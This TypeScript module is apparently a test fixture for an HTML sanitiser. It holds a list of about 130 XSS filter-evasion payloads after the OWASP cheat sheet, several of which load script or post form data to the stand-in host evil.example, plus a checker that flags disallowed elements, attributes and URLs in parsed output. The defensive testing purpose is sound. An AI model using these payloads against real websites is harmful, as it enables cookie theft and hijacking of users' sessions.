/**
 * Hostile HTML: one example of each technique of the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and a check of sanitised HTML.
 */

/** Returns the text as character references. */
const coded = (text: string, one: (code: number) => string) =>
  [...text].map((letter) => one(letter.codePointAt(0)!)).join('');
const CALL = "javascript:steal('x')";
const FILE = 'https://evil.example/x.js';

const TECHNIQUES: Record<string, string> = {
  'a script of another host': `<SCRIPT SRC=${FILE}></SCRIPT>`,
  'a polyglot for several contexts': `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+steal(1);//'>`,
  'a link with an event handler': '<a onmouseover="steal(document.cookie)">x</a>',
  'a link with an event handler without quotes': '<a onmouseover=steal(1)>x</a>',
  'a malformed picture': '<IMG """><SCRIPT>steal("x")</SCRIPT>">',
  'a call without quotes': '<IMG SRC=javascript:steal(String.fromCharCode(120))>',
  'a picture with an anchor as its source': `<IMG SRC=# onmouseover="steal('x')">`,
  'a picture with an empty source': `<IMG SRC= onmouseover="steal('x')">`,
  'a picture without a source': `<IMG onmouseover="steal('x')">`,
  'a picture that fails': '<IMG SRC=/ onerror="steal(1)"></img>',
  'a handler as decimal references': `<img src=x onerror="${coded(CALL, (n) => `&#${n}`)}">`,
  'decimal references': `<IMG SRC=${coded(CALL, (n) => `&#${n};`)}>`,
  'padded decimal references': `<IMG SRC=${coded(CALL, (n) => `&#${`${n}`.padStart(7, '0')}`)}>`,
  'hexadecimal references': `<IMG SRC=${coded(CALL, (n) => `&#x${n.toString(16)}`)}>`,
  'a link with decimal references': `<a href="${coded(CALL, (n) => `&#${n};`)}">x</a>`,
  'a link with hexadecimal references': `<a href="${coded(CALL, (n) => `&#X${n.toString(16)}`)}">x</a>`,
  'a tab in the scheme': `<a href="jav\tascript:steal('x')">x</a>`,
  'a tab as a reference in the scheme': `<a href="jav&#x09;ascript:steal('x')">x</a>`,
  'a named tab in the scheme': `<a href="java&Tab;script&colon;steal(1)">x</a>`,
  'a newline in the scheme': `<a href="jav&#x0A;ascript:steal('x')">x</a>`,
  'a carriage return in the scheme': `<a href="jav&#x0D;ascript:steal('x')">x</a>`,
  'a null character in the scheme': '<a href="java\0script:steal(1)">x</a>',
  'a null character in a tag': '<scr\0ipt>steal(1)</scr\0ipt>',
  'control characters before the scheme': `<a href=" &#14;  javascript:steal('x')">x</a>`,
  'a soft hyphen in the scheme': '<a href="java\u00adscript:steal(1)">x</a>',
  'a slash after the tag': `<SCRIPT/XSS SRC="${FILE}"></SCRIPT>`,
  'other characters in an event handler': '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=steal("x")>',
  'a slash instead of a space': `<SCRIPT/SRC="${FILE}"></SCRIPT>`,
  'doubled brackets': '<<SCRIPT>steal("x");//<</SCRIPT>',
  'a script that is not closed': `<SCRIPT SRC=${FILE}?< B >`,
  'a script without a protocol': '<SCRIPT SRC=//evil.example/.j>',
  'a picture that is not closed': `<IMG SRC="javascript:steal('x')"`,
  'a frame that is not closed': '<iframe src=https://evil.example/x.html <',
  'an escaped quote': `\\";steal('x');//`,
  'the end of another script': `</script><script>steal('x');</script>`,
  'the end of a title': '</TITLE><SCRIPT>steal("x");</SCRIPT>',
  'a picture button': `<INPUT TYPE="IMAGE" SRC="javascript:steal('x');">`,
  'a background of the page': `<BODY BACKGROUND="javascript:steal('x')">`,
  dynsrc: `<IMG DYNSRC="javascript:steal('x')">`,
  lowsrc: `<IMG LOWSRC="javascript:steal('x')">`,
  'a list style': `<STYLE>li {list-style-image: url("javascript:steal('x')");}</STYLE><UL><LI>x</br>`,
  VBScript: `<IMG SRC='vbscript:msgbox("x")'>`,
  'a link with VBScript': `<a href='vbscript:msgbox("x")'>x</a>`,
  LiveScript: '<a href="livescript:[code]">x</a>',
  'an SVG handler': "<svg/onload=steal('x')>",
  'an SVG script': '<svg><script xlink:href=data&colon;,steal(1)></script></svg>',
  'an SVG animation':
    '<svg><a><animate attributeName=href values=javascript:steal(1) /><text>x</text></a></svg>',
  MathML:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal(1)&gt;">',
  'a template literal': 'Set.constructor`steal\\x28document.domain\\x29`',
  'a body handler': "<BODY ONLOAD=steal('x')>",
  'a body handler with a space': "<BODY ONLOAD =steal('x')>",
  'a background sound': `<BGSOUND SRC="javascript:steal('x');">`,
  'a script include': `<BR SIZE="&{steal('x')}">`,
  'a stylesheet with a script': `<LINK REL="stylesheet" HREF="javascript:steal('x');">`,
  'a stylesheet of another host': '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
  'an imported stylesheet': "<STYLE>@import'https://evil.example/x.css';</STYLE>",
  'a link header':
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">',
  'a binding': '<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#x")}</STYLE>',
  'an interrupted import': `<STYLE>@im\\port'\\ja\\vasc\\ript:steal("x")';</STYLE>`,
  'an interrupted expression': `<IMG STYLE="x:expr/*x*/ession(steal('x'))">`,
  'an expression of a link': `exp/*<A STYLE='no\\x:nox("*//*");x:ex/*x*//*/*/pression(steal("x"))'>`,
  'a style with a script type': `<STYLE TYPE="text/javascript">steal('x');</STYLE>`,
  'a class for a style': `<STYLE>.x{background-image:url("javascript:steal('x')");}</STYLE><A CLASS=x></A>`,
  'an unknown element': `<XSS STYLE="x:expression(steal('x'))">`,
  'a behaviour': '<XSS STYLE="behavior: url(x.htc);">',
  'other brackets': '¼script¾steal(¢x¢)¼/script¾',
  'a refresh': `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:steal('x');">`,
  'a refresh with data':
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHA+eDwvcD4=">',
  'a refresh with two URLs': `<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:steal('x');">`,
  'a frame': `<IFRAME SRC="javascript:steal('x');"></IFRAME>`,
  'a frame with a handler': '<IFRAME SRC=# onmouseover="steal(1)"></IFRAME>',
  'a frame with its own document':
    '<iframe srcdoc="&lt;script&gt;steal(1)&lt;/script&gt;"></iframe>',
  'a frameset': `<FRAMESET><FRAME SRC="javascript:steal('x');"></FRAMESET>`,
  'a table with a background': `<TABLE BACKGROUND="javascript:steal('x')"><TR><TD>x</TABLE>`,
  'a cell with a background': `<TABLE><TD BACKGROUND="javascript:steal('x')">`,
  'a table with a handler and a style':
    '<table onclick="steal(1)" style="position:fixed"><tr id="main" onclick="x()"><th onclick="x()" scope="x" class="btn">a</th></tr></table>',
  'a table that is not closed':
    '<table><tr><td><form action="https://evil.example"><input name="card">',
  'a form in a table':
    '<table><form action="https://evil.example"><tr><td><button>x</button></td></tr></form></table>',
  'a background': `<DIV STYLE="background-image: url(javascript:steal('x'))">`,
  'a background in Unicode': `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'">`,
  'an expression': `<DIV STYLE="width: expression(steal('x'));">`,
  'a conditional comment': `<!--[if gte IE 4]><SCRIPT>steal('x');</SCRIPT><![endif]-->`,
  'a comment that ends early': '<!--><img src=x onerror=steal(1)>-->',
  'a base URL': `<BASE HREF="javascript:steal('x');//">`,
  'an object': '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  'an object with a parameter':
    '<OBJECT CLASSID="clsid:1"><PARAM NAME="DataURL" VALUE="javascript:steal(1)"></OBJECT>',
  'an embedded film': '<EMBED SRC="https://evil.example/x.swf" AllowScriptAccess="always"></EMBED>',
  'an embedded SVG':
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml"></EMBED>',
  'an XML island': `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:steal('x')"></B></I></XML><SPAN DATASRC="#x"></SPAN>`,
  'HTML and time':
    '<HTML><BODY><?xml:namespace prefix="t"><?import namespace="t"><t:set attributeName="innerHTML" to="x<SCRIPT DEFER>steal(1)</SCRIPT>"></BODY></HTML>',
  'a script with the name of a picture': '<SCRIPT SRC="https://evil.example/x.jpg"></SCRIPT>',
  'a server-side include': `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT>steal(1)</SCRIPT>'"-->`,
  PHP: `<? echo('<SCR)';echo('IPT>steal("x")</SCRIPT>'); ?>`,
  'a picture that is a command': '<IMG SRC="https://evil.example/command?do=it">',
  'a picture that is a path of this site': '<img src="/logout?x=/files/a.png" alt="x">',
  'a picture that leaves its folder':
    '<img src="/files/../logout.png" alt="x"><img src="/files/..%2flogout.png" alt="x">',
  'a drawing with scripts': '<img src="/files/scenes/water.svg" alt="x">',
  'a picture of another host without a protocol': '<img src="//evil.example/files/x.png" alt="x">',
  'several sources':
    '<img src="/files/scenes/water.webp" srcset="https://evil.example/x.png 1x" alt="x" onload="steal(1)">',
  'a description that ends the attribute': `<img src="/files/scenes/water.webp" alt='"><script>steal(1)</script>'>`,
  'a cookie': `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>steal('x')</SCRIPT>">`,
  'UTF-7': `<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-steal('x');+ADw-/SCRIPT+AD4-`,
  'a bracket in quotes': `<SCRIPT a=">" SRC="${FILE}"></SCRIPT>`,
  'a bracket in quotes without a name': `<SCRIPT =">" SRC="${FILE}"></SCRIPT>`,
  'a bracket in quotes and empty quotes': `<SCRIPT a=">" '' SRC="${FILE}"></SCRIPT>`,
  'a quoted attribute': `<SCRIPT "a='>'" SRC="${FILE}"></SCRIPT>`,
  'a bracket in grave accents': '<SCRIPT a=`>` SRC="https://evil.example/x.js"></SCRIPT>',
  'mixed quotes': `<SCRIPT a=">'>" SRC="${FILE}"></SCRIPT>`,
  'a script in two parts': `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="${FILE}"></SCRIPT>`,
  'a host without a protocol': '<A HREF="//evil.example/">x</A>',
  'a host with backslashes': '<A HREF="\\\\evil.example/">x</A><A HREF="/\\evil.example/">x</A>',
  'a host with tabs and newlines': '<A HREF="h \ntt\tp://6\t6.000146.0x7.147/">x</A>',
  'a link that runs a script': `<A HREF="javascript:document.location='https://evil.example/'">x</A>`,
  'a link with data': '<a href="data:text/html,<script>steal(1)</script>">x</a>',
  'a link to a file':
    '<a href="file:///etc/passwd">x</a><a href="blob:https://evil.example/1">x</a>',
  'a link with many attributes':
    '<a aa aaa aaaa href=j&#97v&#97script:&#97lert(1) style=x target=_blank ping=https://evil.example>x</a>',
  'a video': '<Video><source onerror = "javascript: steal(1)">',
  'a field': '<Input value = "x" type = text onfocus=steal(1) autofocus>',
  'an applet': '<applet code="javascript:steal(1);">',
  'an old search field': '<isindex x="javascript:" onmouseover="steal(1)">',
  'the end of an attribute': `"></SCRIPT>”>’><SCRIPT>steal(1)</SCRIPT>`,
  'the end of an attribute before a picture': '"><img src="x:x" onerror="steal(1)">',
  'a null character in a handler':
    '</script><img/*%00/src="x&colon;steal(1)"/%00*/onerror=\'eval(src)\'>',
  'a form': '<form><a href="javascript:\\u0061lert(1)">x</form>',
  'a button': '<form><button formaction=javascript&colon;steal(1)>x',
  'a field without spaces': '<input/onmouseover="javaSCRIPT&colon;steal&lpar;1&rpar;"',
  'an unfinished script': '<script x> steal(1) </script 1=2',
  'a misleading title': `<img src="/" =_=" title="onerror='steal(1)'">`,
  'raw text elements': '<noscript><p title="</noscript><img src=x onerror=steal(1)>">',
  'a text area':
    '<textarea><script>steal(1)</script></textarea><xmp><script>steal(1)</script></xmp>',
  'a template': '<template><img src=x onerror=steal(1)></template>',
  'a heading that is an id of the page':
    '<h3 id="main" onclick="steal(1)" class="vh">x</h3><p id="form" name="form">x</p>',
};
/** Each technique with its HTML. */
export const HOSTILE_HTML = Object.entries(TECHNIQUES);

const ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'rel', 'class'],
  table: ['class'],
  th: ['scope', 'class'],
  td: ['class'],
  div: ['class', 'tabindex', 'role', 'aria-label'],
  img: ['class', 'src', 'srcset', 'sizes', 'width', 'height', 'alt', 'loading'],
};
const ELEMENTS = [
  ...['p', 'h3', 'ul', 'ol', 'li', 'strong', 'em', 'blockquote', 'thead', 'tbody', 'tr'],
  ...Object.keys(ATTRIBUTES),
];
const CLASSES = ['', 'art', 'table', 'scroll', 'n', 'ltr num', 'btn plain'];
const SOURCE = /^\/files\/[\w/-]+\.(?:png|jpe?g|webp)\?w=\d+$/;

/**
 * Returns the elements, attributes and URLs below an element that a sanitised text cannot have. Reads the parsed
 * document, because browsers can parse HTML in another way than the sanitiser.
 */
export function unsafeParts(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    if (!ELEMENTS.includes(tag)) return [tag];
    const attributes = [...element.attributes].flatMap(({ name, value }) => {
      const isKnown = ATTRIBUTES[tag]?.includes(name) && isSafe(name, value);
      return isKnown ? [] : [`${tag} ${name}=${value}`];
    });
    return tag === 'img' && !element.hasAttribute('src') ? [...attributes, tag] : attributes;
  });
}

function isSafe(name: string, value: string): boolean {
  if (name === 'src') return SOURCE.test(value);
  if (name === 'srcset') return value.split(', ').every((one) => SOURCE.test(one.split(' ')[0]!));
  if (name === 'class') return CLASSES.includes(value);
  if (name !== 'href') return true;
  const { protocol, origin } = new URL(value, 'https://site.example');
  const isOtherHost = origin !== 'https://site.example';
  if (!isOtherHost) return /^\/(?![/\\])|^#[\w-]+$/.test(value);
  return ['http:', 'https:', 'mailto:', 'tel:'].includes(protocol) && /^[a-z]+:/i.test(value);
}
